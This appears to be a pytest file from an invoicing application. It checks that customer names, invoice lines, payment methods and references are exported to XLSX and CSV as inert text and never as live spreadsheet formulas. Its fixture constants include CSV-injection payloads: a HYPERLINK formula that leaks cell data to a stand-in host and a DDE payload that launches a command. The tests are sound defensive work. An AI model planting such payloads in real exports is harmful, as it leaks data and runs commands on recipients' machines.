"""Text users type never becomes a live formula in an export: in the workbook it is a text cell, in CSV it
carries a leading apostrophe where a spreadsheet would otherwise start a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from invoicer.db.migrate import Database
from invoicer.services import customers, invoices, payments, store
from invoicer.services.invoices import DraftData, LineData
from invoicer.services.ledger import export_csv, export_ledger

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_LINE = "@SUM(A1:A9)"
HOSTILE_REFERENCE = "+1+cmd|' /C calc'!A0"
HOSTILE_METHOD = "-2+3"


def hostile_business(db: Database) -> None:
    """Hostile text everywhere a user types; the payment method as words kept from before codes (0014)."""
    customer = store.write(db, lambda s: customers.add_customer(
        s, customers.CustomerData(name=HOSTILE_NAME, country="DE")))
    draft = DraftData(customer_id=customer, issue_date=date(2026, 11, 2),
                      lines=[LineData(HOSTILE_LINE, "1", "100.00", "S", "19")])
    invoice_id = store.write(db, lambda s: invoices.create_draft(s, draft))
    store.write(db, lambda s: invoices.finalize_invoice(s, invoice_id))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(payments, "method_code", lambda words: words)
        store.write(db, lambda s: payments.record_payment(
            s, invoice_id, 5000, date(2026, 11, 3), HOSTILE_METHOD, HOSTILE_REFERENCE))


def test_no_hostile_text_is_a_formula_in_the_workbook(seller: Database, tmp_path: Path) -> None:
    hostile_business(seller)
    workbook = openpyxl.load_workbook(export_ledger(seller, tmp_path / "ledger.xlsx", today=date(2026, 11, 30)))
    seen = set()
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in (HOSTILE_NAME, HOSTILE_LINE, HOSTILE_REFERENCE, HOSTILE_METHOD):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    seen.add(cell.value)
                elif cell.data_type == "f":  # the only formulas are the totals rows' own sums
                    assert str(cell.value).startswith(("=SUM(", "=SUMIFS(")), (ws.title, cell.value)
    assert seen == {HOSTILE_NAME, HOSTILE_LINE, HOSTILE_REFERENCE, HOSTILE_METHOD}


def test_no_hostile_text_starts_a_formula_in_csv(seller: Database, tmp_path: Path) -> None:
    hostile_business(seller)
    folder = tmp_path / "csv"
    export_csv(seller, folder, today=date(2026, 11, 30))
    cells = [value for path in folder.glob("*.csv")
             for row in csv.reader(path.open(encoding="utf-8")) for value in row]
    for text in (HOSTILE_NAME, HOSTILE_LINE, HOSTILE_REFERENCE, HOSTILE_METHOD):
        assert "'" + text in cells and text not in cells
    assert any(value == "50.00" for value in cells)  # the payment amount is a plain number, not guarded
